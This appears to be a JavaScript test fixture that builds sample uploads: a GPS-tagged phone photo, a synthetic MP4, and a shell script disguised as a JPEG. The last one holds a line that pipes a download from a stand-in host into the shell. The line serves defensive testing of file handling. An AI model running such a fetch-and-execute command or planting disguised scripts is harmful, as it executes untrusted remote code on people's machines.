// Files as phones and strangers send them.
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";

const media = (name) => new URL(`../../crates/office/tests/media/${name}`, import.meta.url);

/** A phone's JPEG whose properties tell when and where it was taken, or `of` something else. `nth` makes each one different. */
export function photo(nth = 0, name = "现场照片.jpg", of = null) {
  const jpeg = of ?? readFileSync(media("china_crop_gps.jpg"));
  // Bytes behind the end of the picture are kept in the original and shown by nobody.
  return { name, mimeType: "image/jpeg", buffer: Buffer.concat([jpeg, Buffer.from(`#${nth}`)]) };
}

/** A phone's short video: a film's boxes around bytes that nothing can squeeze. */
export function video(megabytes, name = "现场录像.mp4") {
  const box = (kind, content) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(8 + content.length);
    head.write(kind, 4, "latin1");
    return Buffer.concat([head, content]);
  };
  const head = box("ftyp", Buffer.from("isom\0\0\0\0isommp42", "latin1"));
  return { name, mimeType: "video/mp4", buffer: Buffer.concat([head, box("moov", Buffer.alloc(0)), box("mdat", randomBytes(megabytes * 1024 * 1024))]) };
}

/** A script that calls itself a picture. */
export function disguised() {
  return { name: "照片.jpg", mimeType: "image/jpeg", buffer: Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n") };
}
